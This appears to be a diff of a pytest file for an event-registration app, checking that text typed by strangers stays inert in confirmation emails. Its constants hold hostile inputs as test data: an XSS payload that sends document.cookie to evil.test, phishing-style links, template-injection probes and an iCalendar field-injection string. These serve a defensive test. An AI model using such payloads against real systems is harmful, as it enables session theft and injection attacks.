@@ -34,6 +34,8 @@ T11 = "\"><img src=x onerror=fetch('//evil.test/'+document.cookie)><script>alert
 T13 = '[Refund](https://evil.test) <a href="https://evil.test">now</a> https://evil.test **bold**'
 T14 = "{code} {link} {registration.__class__} {{7*7}} {% debug %} {0.__class__}"
 T27 = "Talk\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil;X=1,2\\"
+# To whom we may know nothing of: what somebody typed is not in them at all.
+NAMELESS = {"registration/address_left", "registration/erased"}
 HOSTILE = [T05, T06, T11, T13, T14, T27]
 
 
@@ -312,7 +314,7 @@ def test_what_a_stranger_typed_does_nothing_in_a_mail(event, kind, language, hos
         )
     for body in (text, html):  # no program makes links in a subject
         assert not re.search(r"evil\.test|victim@example", body)
-    if hostile == T14:
+    if hostile == T14 and kind not in NAMELESS:
         # Put in once: what looks like a placeholder in a value stays as it was typed.
         assert "{code} {link}" in text
         assert "{code} {link}" in html
@@ -340,9 +342,8 @@ def test_no_english_sentence_is_left_in_a_russian_mail(event, kind):
 @pytest.mark.parametrize("kind", KINDS)
 def test_no_russian_word_is_left_in_an_english_mail(event, kind):
     row = a_row(event, kind, text="Ada")
-    if hasattr(row, "family_name"):
-        type(row).objects.update(family_name="Lovelace")
-        row.refresh_from_db()
+    Registration.objects.update(family_name="Lovelace")
+    row.refresh_from_db()
     message, _ = sent(kind, row, "en")
     for words in (message["Subject"], text_of(message), html_of(message)):
         assert not re.findall(r"[А-Яа-яЁё]+", words)
